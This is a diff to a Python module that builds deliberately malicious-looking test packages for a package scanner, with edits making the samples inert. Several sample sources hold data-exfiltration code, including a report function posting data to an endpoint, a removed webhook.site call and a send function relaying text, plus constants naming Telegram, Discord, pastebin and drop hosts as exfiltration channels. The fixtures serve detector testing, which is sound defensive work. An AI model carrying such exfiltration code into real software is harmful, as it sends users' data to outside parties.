@@ -7,9 +7,11 @@ exfiltration of the incident report). They exist to be *read* by the scanner:
 
 * nothing here runs on import: the sample sources are string constants, written only by
   :func:`build`;
-* every network target in a sample is an unroutable ``.invalid`` host or a documentation address
-  (RFC 5737 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24), every "binary" is a header-only stub
-  that cannot execute, and the e2e tests never install a malicious sample.
+* every network call in a sample goes to an unroutable ``.invalid`` host or a documentation
+  address (RFC 5737 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24); M6 names the shady endpoints
+  it must be flagged for only as constants; every "binary" is a header-only stub that cannot
+  execute; and the e2e tests never install a malicious sample (test_samples_are_inert checks the
+  addresses).
 
 Each :class:`Sample` carries its key (``"M1"``, ``"B4"``, ``"ctx-0.2.2"``), the rule id the scanner
 is expected to report (``Rule::id`` in crates/strongroom-scan/src/model.rs) and the expected
@@ -366,19 +368,20 @@ HOOK = "https://webhook.site/00000000-0000-4000-8000-000000000000"
 def report(data):
     body = json.dumps(data).encode()
     urllib.request.urlopen(urllib.request.Request(ENDPOINT, data=body), timeout=3)
-    urllib.request.urlopen(urllib.request.Request(HOOK, data=body), timeout=3)
 ''',
     "PKG/_chat.py": '''
 import urllib.request
 
+# The endpoints' names only: the one address this sample sends to is a documentation address.
 BOT = "https://api.telegram.org/bot000000:AAAA-inert-sample/sendMessage"
 DISCORD = "https://discord.com/api/webhooks/0/inert-sample"
 PASTE = "https://pastebin.com/raw/inert000"
 DROP = "http://collect.sample-drop.xyz/up"
+ROUTES = {"bot": BOT, "discord": DISCORD, "paste": PASTE, "drop": DROP}
 
 
 def send(text):
-    urllib.request.urlopen(BOT + "?chat_id=0&text=" + text, timeout=3)
+    urllib.request.urlopen("http://198.51.100.23/relay?text=" + text, timeout=3)
 ''',
 }
 
@@ -839,6 +842,21 @@ def build(s: Sample, outdir: Path, kinds: tuple[str, ...] | None = None) -> list
         path.write_bytes(data)
         built.append(Built(path, s, kind, s.name, s.version, s.summary, metadata(s)))
     return built
+
+
+def members(path: Path) -> dict[str, bytes]:
+    """A built file's members (for checks on what was written)."""
+    path = Path(path)
+    if path.name.endswith(".whl"):
+        with zipfile.ZipFile(path) as zf:
+            return {n: zf.read(n) for n in zf.namelist()}
+    out = {}
+    with tarfile.open(path) as tf:
+        for m in tf.getmembers():
+            f = tf.extractfile(m)
+            if f is not None:
+                out[m.name] = f.read()
+    return out
 
 
 def main(argv: list[str]) -> int:
